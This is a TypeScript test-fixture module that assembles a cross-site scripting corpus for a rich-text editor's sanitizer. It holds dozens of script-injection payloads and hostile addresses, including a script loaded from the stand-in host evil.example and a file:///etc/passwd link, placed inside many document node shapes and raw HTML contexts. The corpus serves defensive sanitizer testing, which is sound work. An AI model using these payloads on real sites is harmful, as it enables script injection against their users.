/** Words that run a script where they are taken for markup or for an address. */
const payloads = [
  '<script>alert(1)</script>',
  '<ScRiPt src=//evil.example/x.js></sCrIpT>',
  '<img src=x onerror=alert(1)>',
  '<img src=x onerror="alert(1)"//',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<math><mtext></p><img src=x onerror=alert(1)></math>',
  '<math href="javascript:alert(1)">x</math>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="javascript:alert(1)">',
  '<a href="javascript:alert(1)">x</a>',
  '<form action="javascript:alert(1)"><button>x</button></form>',
  '<input autofocus onfocus=alert(1)>',
  '<details open ontoggle=alert(1)>',
  '<body onload=alert(1)>',
  '<style>@import "javascript:alert(1)"</style>',
  '<link rel=stylesheet href=javascript:alert(1)>',
  '<meta http-equiv=refresh content="0;javascript:alert(1)">',
  '<base href="https://evil.example/">',
  '<video><source onerror=alert(1)></video>',
  '<audio src=x onerror=alert(1)>',
  '<marquee onstart=alert(1)>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<template><script>alert(1)</script></template>',
  '"><script>alert(1)</script>',
  "'><img src=x onerror=alert(1)>",
  '" onmouseover="alert(1)',
  "' onfocus='alert(1)' autofocus='",
  '</p></div><script>alert(1)</script>',
  '<!--><script>alert(1)</script>-->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<data value="0"></data><script>alert(1)</script>',
  '&lt;script&gt;alert(1)&lt;/script&gt;<script>alert(1)</script>',
  '\u0000<script>alert(1)</script>',
  '<scr\u0000ipt>alert(1)</scr\u0000ipt>',
  '\u202e<script>alert(1)</script>',
  '＜script＞alert(1)＜/script＞',
];

const addresses = [
  'javascript:alert(1)',
  'JaVaScRiPt:alert(1)',
  ' javascript:alert(1)',
  '\u0001javascript:alert(1)',
  'java\nscript:alert(1)',
  'java\tscript:alert(1)',
  'javascript&colon;alert(1)',
  'javascript:alert(1)//https://msc.example/',
  'data:text/html,<script>alert(1)</script>',
  'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
  'data:image/svg+xml,<svg onload=alert(1)>',
  'vbscript:msgbox(1)',
  'file:///etc/passwd',
  'blob:https://msc.example/1',
  '//evil.example/x',
  '/\\evil.example',
  '\\\\evil.example',
  'https://user:pass@evil.example/',
  'https://evil.example/"onclick="alert(1)',
  "https://evil.example/'onclick='alert(1)",
  'https://evil.example/><script>alert(1)</script>',
  'intent://x#Intent;scheme=javascript;end',
  'filesystem:https://msc.example/x',
  'view-source:javascript:alert(1)',
];

type Json = Record<string, unknown>;
const text = (value: string, marks?: readonly Json[]): Json => ({
  type: 'text',
  text: value,
  ...(marks && { marks }),
});
const paragraph = (...content: Json[]): Json => ({ type: 'paragraph', content });
const doc = (...content: unknown[]): Json => ({ type: 'doc', content });

/** Every way in which a text of staff could carry the words: as text, attribute, formula, node or mark of its own. */
const carriers: readonly ((word: string) => unknown)[] = [
  (word) => doc(paragraph(text(word))),
  (word) => doc({ type: 'heading', attrs: { level: word }, content: [text(word)] }),
  (word) => doc({ type: 'codeBlock', attrs: { language: word }, content: [text(word)] }),
  (word) => doc({ type: 'mathBlock', attrs: { latex: `\\text{${word}}` } }),
  (word) => doc({ type: 'mathBlock', attrs: { latex: `\\href{${word}}{x}` } }),
  (word) => doc(paragraph({ type: 'mathInline', attrs: { latex: word } })),
  (word) => doc({ type: 'image', attrs: { src: word, alt: word, caption: word, onerror: word } }),
  (word) =>
    doc({ type: 'image', attrs: { src: `/files/${'a'.repeat(22)}`, alt: word, caption: word, style: word } }),
  (word) => doc({ type: 'video', attrs: { host: 'youtube', videoId: word, title: word } }),
  (word) => doc({ type: 'video', attrs: { host: 'youtube', videoId: 'abcdefghijk', title: word } }),
  (word) => doc(paragraph(text('x', [{ type: 'link', attrs: { href: word, target: word, class: word } }]))),
  (word) => doc(paragraph(text('x', [{ type: word, attrs: { href: word } }]))),
  (word) => doc({ type: word, attrs: { src: word }, content: [text(word)] }),
  (word) => doc({ type: 'html', attrs: { html: word }, content: [{ type: 'rawHtml', text: word }] }),
  (word) => doc({ type: 'iframe', attrs: { src: word, srcdoc: word } }),
  (word) =>
    doc({
      type: 'table',
      attrs: { style: word },
      content: [
        {
          type: 'tableRow',
          content: [{ type: 'tableCell', attrs: { colspan: word }, content: [paragraph(text(word))] }],
        },
      ],
    }),
  (word) =>
    doc({
      type: 'orderedList',
      attrs: { start: word },
      content: [{ type: 'listItem', content: [paragraph(text(word))] }],
    }),
  (word) => ({ type: word, content: [paragraph(text(word))], html: word }),
];

/** The corpus: 40 payloads and 24 addresses in 18 carriers. */
export const xssCorpus: readonly unknown[] = [...payloads, ...addresses].flatMap((word) =>
  carriers.map((carry) => carry(word)),
);
/** Addresses that no link may have. */
export const badAddresses: readonly string[] = addresses;

const quoted = (word: string) => word.replaceAll('"', '&quot;');
/** Places in a page where the words do harm if nobody cleans them. */
const markups: readonly ((word: string) => string)[] = [
  (word) => `<div>${word}</div>`,
  (word) => `<p title="${word}">x</p>`,
  (word) => `<p title='${word}'>x</p>`,
  (word) => `<textarea>${word}</textarea>`,
  (word) => `<table><tr><td>${word}</td></tr></table>`,
];
const addressMarkups: readonly ((word: string) => string)[] = [
  (word) => `<a href="${quoted(word)}">x</a>`,
  (word) => `<a href='${word}'>x</a>`,
  (word) => `<iframe src="${quoted(word)}"></iframe>`,
  (word) => `<object data="${quoted(word)}"></object>`,
  (word) => `<embed src="${quoted(word)}">`,
  (word) => `<form action="${quoted(word)}"><button>x</button></form>`,
  (word) => `<img src="${quoted(word)}" onerror="alert(1)">`,
  (word) => `<svg><a href="${quoted(word)}"><text y="20">x</text></a></svg>`,
  (word) => `<script src="${quoted(word)}"></script>`,
];
/** The same words as raw markup, as a page would hold them if cleaning failed. */
export const rawMarkups: readonly string[] = [
  ...payloads.flatMap((word) => markups.map((carry) => carry(word))),
  ...addresses.flatMap((word) => addressMarkups.map((carry) => carry(word))),
];
